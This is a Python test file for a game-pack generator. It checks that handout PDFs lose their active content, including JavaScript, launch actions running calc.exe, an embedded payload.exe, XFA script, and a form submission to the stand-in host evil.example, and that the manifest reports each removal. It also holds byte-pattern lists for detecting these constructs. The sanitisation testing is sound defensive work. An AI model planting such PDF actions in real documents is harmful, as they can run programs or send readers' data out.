"""A handout PDF loses its active content on its way into a pack
(render/pack/handouts.py).

A handout is made with pypdf carrying document JavaScript, an open action,
an additional action on its page, a launch link, a `javascript:` link, an
embedded file and a file attachment, beside a plain web link. After `pack`,
the player's envelope and the print shop's zip copy are read back with
pypdf: none of the active content is there, the web link is, and the
stuffing manifest says what was removed from which handout.
"""
from __future__ import annotations

import csv
import shutil
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, StreamObject, TextStringObject
from pypdf.generic import IndirectObject

from generator.commands.pack import PackRequest, pack
from generator.core.paper import A4
from generator.systems.sixes import SYSTEM as SIXES

ACTIVE_MARKS = (b"/JavaScript", b"/JS", b"/Launch", b"/OpenAction", b"/AA", b"/EmbeddedFiles", b"/FileAttachment",
                b"app\\056alert", b"calc\\056exe", b"/SubmitForm")


def _action(kind: str, **entries: str) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


def _link(writer: PdfWriter, action: DictionaryObject | IndirectObject, subtype: str = "/Link") -> object:
    annotation = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
        NameObject("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), FloatObject(60), FloatObject(60)]),
        NameObject("/A"): action})
    return writer._add_object(annotation)


def hostile_handout(path: Path) -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("payload.exe", b"MZ evil")
    script = writer._add_object(_action("/JavaScript", JS="app.alert('document')"))
    names = writer._root_object["/Names"]
    assert isinstance(names, DictionaryObject)
    names[NameObject("/JavaScript")] = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("hello"), script])})
    writer._root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS="app.alert('open')")
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/JavaScript", JS="app.alert('page')")})
    page[NameObject("/Annots")] = ArrayObject([
        _link(writer, _action("/Launch", F="calc.exe")),
        _link(writer, _action("/URI", URI="javascript:app.alert('uri')")),
        _link(writer, _action("/URI", URI="https://example.org/map")),
        _link(writer, _action("/SubmitForm", F="https://evil.example/collect")),
        _link(writer, _action("/GoTo"), subtype="/FileAttachment"),
        # The same kinds again as objects of their own, which outlive the key that pointed at them.
        _link(writer, writer._add_object(_action("/JavaScript", JS="app.alert('annot-indirect')"))),
        _link(writer, writer._add_object(_action("/Launch", F="calc-indirect.exe"))),
    ])
    page_actions = page[NameObject("/AA")]
    assert isinstance(page_actions, DictionaryObject)
    page_actions[NameObject("/C")] = writer._add_object(
        _action("/JavaScript", JS="app.alert('page-indirect')"))
    xfa = StreamObject()
    xfa.set_data(b"<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>")
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)})
    with open(path, "wb") as handle:
        writer.write(handle)


@pytest.fixture(scope="module")
def packed(tmp_path_factory) -> tuple[Path, Path]:
    """The starter game packed with the hostile handout in Robin's envelope:
    (the A4 folder, the zip)."""
    root = tmp_path_factory.mktemp("handouts")
    data = root / "data"
    shutil.copytree(SIXES.starter, data / "sixes")
    (data / "handouts").mkdir()
    hostile_handout(data / "handouts" / "letter.pdf")
    casting = root / "casting.yaml"
    casting.write_text("envelopes:\n  - player: Robin Ash\n    character: First Rival\n"
                       "    handouts: [handouts/letter.pdf]\n")
    report = pack(PackRequest(data, root / "out", (A4,), casting_file=casting, workers=1))
    (archive,) = report.zips
    return root / "out" / "pack" / "sixes" / "a4", archive


def _active_in(data: bytes) -> list[bytes]:
    reader = PdfReader(BytesIO(data))
    writer = PdfWriter()        # written out uncompressed, so every key can be searched as bytes
    writer.clone_document_from_reader(reader)
    out = BytesIO()
    writer.write(out)
    return [mark for mark in ACTIVE_MARKS if mark in out.getvalue()]


def test_the_hostile_handout_is_hostile(tmp_path):
    hostile_handout(tmp_path / "h.pdf")
    assert len(_active_in((tmp_path / "h.pdf").read_bytes())) == len(ACTIVE_MARKS)


def test_the_envelope_and_the_zip_hold_no_active_content(packed):
    folder, archive = packed
    envelope = (folder / "envelopes" / "01-robin-ash.pdf").read_bytes()
    with zipfile.ZipFile(archive) as zf:
        zipped = zf.read("a4/envelopes/01-robin-ash.pdf")
    for data in (envelope, zipped):
        assert _active_in(data) == []
        reader = PdfReader(BytesIO(data))
        names = reader.root_object.get("/Names", {})
        assert isinstance(names, dict)
        assert "/OpenAction" not in reader.root_object and "/Names" not in reader.root_object \
            or "/JavaScript" not in names
        links = [a.get_object()["/A"].get("/URI") for page in reader.pages for a in page.get("/Annots", [])
                 if "/A" in a.get_object()]
        assert "https://example.org/map" in links


# In every object of the file, reached or not, compressed or not: what a preflight reading bytes would find.
STRIPPED = (b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/XFA", b"app.alert", b"calc.exe",
            b"calc-indirect.exe", b"MZ evil", b"xdp:xdp")


def _every_object(data: bytes) -> bytes:
    """The file's bytes, then every object pikepdf finds in its cross-reference
    table (unreachable ones too, and those inside object streams), streams
    decoded."""
    import pikepdf
    found = [data]
    with pikepdf.open(BytesIO(data)) as pdf:
        for obj in pdf.objects:
            found.append(repr(obj).encode("utf-8", "backslashreplace"))
            if isinstance(obj, pikepdf.Stream):
                found.append(obj.read_bytes())
    return b"\n".join(found)


def test_what_is_stripped_is_gone_from_the_bytes(packed, tmp_path):
    folder, archive = packed
    hostile_handout(tmp_path / "h.pdf")
    assert all(mark in _every_object((tmp_path / "h.pdf").read_bytes()) for mark in STRIPPED)
    with zipfile.ZipFile(archive) as zf:
        zipped = zf.read("a4/envelopes/01-robin-ash.pdf")
    for data in ((folder / "envelopes" / "01-robin-ash.pdf").read_bytes(), zipped):
        everything = _every_object(data)
        assert [mark for mark in STRIPPED if mark in everything] == []
        assert b"https://example.org/map" in everything


def test_the_manifest_says_what_was_removed(packed):
    folder, _ = packed
    with open(folder / "manifest.csv", newline="", encoding="utf-8") as handle:
        rows = {r["envelope"]: r["contents"] for r in csv.DictReader(handle)}
    assert ("Handout: Letter (active content removed: " in rows["1"])
    for word in ("JavaScript", "a launch action", "embedded files", "an attached file", "a script link",
                 "a form submission", "additional actions"):
        assert word in rows["1"], word
    assert "active content" not in rows["2"]


def _bookmarked(chained_next: DictionaryObject | None = None) -> PdfReader:
    """A three-page handout with a bookmark per page; the last bookmark's
    GoTo action runs `chained_next` after it when given."""
    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(595, 842)
    items = [writer.add_outline_item(title=f"Page {n + 1}", page_number=n) for n in range(3)]
    goto = _action("/GoTo")
    goto[NameObject("/D")] = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
    goto[NameObject("/Next")] = chained_next or _action("/Named", N="NextPage")
    last = items[-1].get_object()
    assert isinstance(last, DictionaryObject)
    last[NameObject("/A")] = goto
    out = BytesIO()
    writer.write(out)
    return PdfReader(BytesIO(out.getvalue()))


def test_a_bookmarked_handout_carries_nothing_active():
    """Bookmarks are siblings linked by /Next, and a chain of page actions
    is not active content: nothing is reported, nothing is removed."""
    from generator.render.pack.handouts import find_active_content, strip_active_content
    reader = _bookmarked()
    assert find_active_content(reader) == []
    writer = PdfWriter(clone_from=reader)
    assert strip_active_content(writer) == []
    out = BytesIO()
    writer.write(out)
    titles = [item.title for item in PdfReader(out).outline if not isinstance(item, list)]
    assert titles == ["Page 1", "Page 2", "Page 3"]


def test_an_active_action_chained_after_a_safe_one_is_found_and_removed():
    from generator.render.pack.handouts import find_active_content, strip_active_content
    reader = _bookmarked(chained_next=_action("/Launch", F="calc.exe"))
    assert find_active_content(reader) == ["a launch action"]
    writer = PdfWriter(clone_from=reader)
    strip_active_content(writer)
    out = BytesIO()
    writer.write(out)
    assert b"calc" not in out.getvalue() and b"/Launch" not in out.getvalue()


def test_what_was_removed_is_said_in_the_games_language():
    from generator.core.i18n import speaking, words_for
    from generator.render.pack.handouts import find_active_content
    with speaking(words_for("fr")):
        words = find_active_content(_bookmarked(chained_next=_action("/Launch", F="calc.exe")))
        hostile = BytesIO()
        writer = PdfWriter()
        writer.add_blank_page(595, 842)
        writer.add_attachment("payload.exe", b"MZ evil")
        writer.write(hostile)
        words += find_active_content(PdfReader(hostile))
    assert words and not {"a launch action", "embedded files"} & set(words), words
